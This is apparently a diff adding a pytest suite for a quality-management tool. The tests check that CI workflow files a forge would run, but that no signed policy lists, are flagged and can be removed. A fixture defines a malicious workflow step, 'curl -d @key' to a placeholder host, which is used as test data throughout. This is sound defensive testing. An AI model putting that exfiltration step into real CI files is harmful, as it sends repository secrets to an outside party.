@@ -1,0 +1,178 @@
+"""What a forge would run and no policy lists: told, with a way out for whoever wants it or not."""
+
+import re
+from pathlib import Path
+
+import pytest
+
+from qms.resources import template_folder
+from qms.testing.office import Office
+
+SIGNERS = ("gao.feng", "guan.ning")
+LISTED = ".github/workflows/qms.yml"
+THIEF = ".github/workflows/tidy.yml"
+STEAL = "on: push\njobs: {tidy: {steps: [{run: 'curl -d @key https://qms.invalid'}]}}\n"
+
+
+@pytest.fixture
+def on_a_forge(lx: Office) -> Office:
+    """LX with a CI file in its policy."""
+    lx.write(LISTED, (template_folder() / LISTED).read_text("utf-8"))
+    for signer in SIGNERS:
+        lx.qms("policy", "sign", by=signer)
+    return lx
+
+
+def committed(office: Office, path: str) -> str:
+    """A workflow that somebody commits; gives the commit before it."""
+    before = office.git("rev-parse", "HEAD")
+    office.write(path, STEAL)
+    office.git("add", "-f", path)
+    office.git("commit", "-q", "-m", "Tidy")
+    return before
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        THIEF, ".github/workflows/qms.yaml", ".github/workflows/x/y.sh", ".GitHub/Workflows/x.yml",
+        ".github/actions/setup/action.yml", ".gitea/workflows/x.yml", ".forgejo/workflows/x.yml",
+        ".workflow/x.yml", ".gitlab-ci.yml", ".gitattributes",
+    ],
+)  # fmt: skip
+def test_what_machines_go_by_is_listed_or_it_is_wrong(on_a_forge: Office, path: str) -> None:
+    """Row 162 (LRV: POLICY-UNLISTED): a forge runs it with the secrets that it has."""
+    office = on_a_forge
+    office.write(path, STEAL)
+    added = office.call("check")
+    (office.folder / path).unlink()
+    before = committed(office, path)
+
+    assert (added.code, added.findings) == (1, ("POLICY-UNLISTED",)), added
+    for judged in (
+        ("check", "--all"),
+        ("check", path),
+        ("check", "--step", before, "HEAD"),
+        ("verify",),
+    ):
+        answer = office.call(*judged)
+        assert (answer.code, answer.findings) == (1, ("POLICY-UNLISTED",)), answer
+        assert f"{path}: error" in answer.out
+
+
+@pytest.mark.parametrize(
+    "path",
+    [".github/CODEOWNERS", ".github/workflow.md", "workflows/x.yml", "assets/.gitlab-ci.yml"],
+)
+def test_what_no_forge_runs_is_free(on_a_forge: Office, path: str) -> None:
+    before = committed(on_a_forge, path)
+
+    for judged in (("check", "--all"), ("check", "--step", before, "HEAD"), ("verify",)):
+        assert (on_a_forge.call(*judged).code, on_a_forge.call(*judged).findings) == (0, ())
+
+
+def test_a_link_in_the_place_of_the_workflows_is_one(lx: Office) -> None:
+    """Row 162 (L: POLICY-UNLISTED)"""
+    lx.write("drafts/workflows/x.yml", STEAL)
+    (lx.folder / ".github").symlink_to("drafts")
+
+    assert lx.call("check").findings == ("POLICY-UNLISTED",)
+
+
+def test_who_has_no_policy_that_lists_any_is_told_too(lx: Office) -> None:
+    """Row 162 (L: POLICY-UNLISTED): their forge runs it as well."""
+    lx.write(THIEF, STEAL)
+
+    assert lx.call("check").findings == ("POLICY-UNLISTED",)
+
+
+@pytest.mark.parametrize("how", ["untracked", "staged", "committed", "edited"])
+def test_it_is_taken_out_by_the_command_that_is_named(on_a_forge: Office, how: str) -> None:
+    office = on_a_forge
+    office.write(THIEF, STEAL)
+    if how != "untracked":
+        office.git("add", "-A")
+    if how in {"committed", "edited"}:
+        office.git("commit", "-q", "-m", "Tidy")
+    if how == "edited":
+        office.write(THIEF, STEAL * 2)
+
+    for _ in range(2 if how == "edited" else 1):
+        said = office.call("check", "--all").out
+        command = re.search(r"take it out with `([^`]+)`", said)
+        assert command is not None, said
+        office.git(*command[1].split()[1:])
+    if how in {"committed", "edited"}:
+        office.git("commit", "-q", "-m", "remove")
+
+    assert (office.call("check", "--all").code, office.status) == (0, "")
+    kept = office.git("stash", "list")
+    assert bool(kept) is (how != "committed"), "what no commit holds is thrown away by nobody"
+
+
+@pytest.mark.parametrize(
+    "path", [THIEF, ".github/workflows/a b, 中.yml", ".github/actions/x/run.sh"]
+)
+def test_the_keepers_list_it(on_a_forge: Office, path: str) -> None:
+    office = on_a_forge
+    committed(office, path)
+
+    shown = office.qms("policy", "sign", by="gao.feng")
+
+    assert "curl -d @key" in shown, "what is agreed to is shown"
+    assert office.call("check", "--all").code == 0, "a keeper signed it"
+    office.qms("policy", "sign", by="guan.ning")
+    for judged in (("check", "--all"), ("verify",)):
+        assert (office.call(*judged).code, office.call(*judged).findings) == (0, ())
+    office.edit(path, "curl", "wget")
+    assert office.call("check").findings == ("POLICY-FILE",)
+
+
+def test_what_a_keeper_lists_by_hand_stays_listed(on_a_forge: Office) -> None:
+    """A script that a workflow runs, or a file that `.gitlab-ci.yml` includes."""
+    office = on_a_forge
+    office.write("ci/publish.yml", STEAL)
+    row = f'files: [{{path: ci/publish.yml, sha256: "sha256:{"0" * 64}"}}, '
+    office.edit("policy.yaml", "files: [", row)
+    for signer in SIGNERS:
+        office.qms("policy", "sign", by=signer)
+    office.edit("people.yaml", "zh: 高峰", "zh: 高锋")
+    for signer in SIGNERS:
+        office.qms("policy", "sign", by=signer)
+
+    assert (office.call("check", "--all").code, office.status) == (0, "")
+    office.edit("ci/publish.yml", "curl", "wget")
+    assert office.call("check").findings == ("POLICY-FILE",)
+
+
+def test_at_a_gate_one_that_stood_before_refuses_nothing_else(
+    drafted: Office, server: Path
+) -> None:
+    """Row 162 (R): whoever got it in before there was a gate, or this rule, stops nobody."""
+    hook = server / "hooks" / "pre-receive"
+    hook.rename(hook.with_suffix(".off"))
+    committed(drafted, THIEF)
+    assert drafted.push("main")[0] == 0
+    hook.with_suffix(".off").rename(hook)
+    drafted.edit("documents/work-instruction/LX-WI-01.md", "title: 车床", "title: 车床二")
+    drafted.git("commit", "-qam", "Title")
+
+    code, said = drafted.push("main")
+
+    assert (code, "POLICY-UNLISTED" in said) == (0, True), said
+    drafted.write(THIEF, STEAL * 2)
+    drafted.git("commit", "-qam", "Tidy more")
+    code, said = drafted.push("main")
+    assert (code != 0, "POLICY-UNLISTED" in said) == (True, True), said
+
+
+def test_each_of_many_is_told_with_its_way_out(on_a_forge: Office) -> None:
+    """Row 162 (L: POLICY-UNLISTED)"""
+    office = on_a_forge
+    for at in range(30):
+        office.write(f".github/workflows/{at}.yml", STEAL)
+
+    said = office.call("check")
+
+    assert said.findings == ("POLICY-UNLISTED",) * 30
+    assert said.out.count("`git stash push -u -- .github/workflows/") == 30
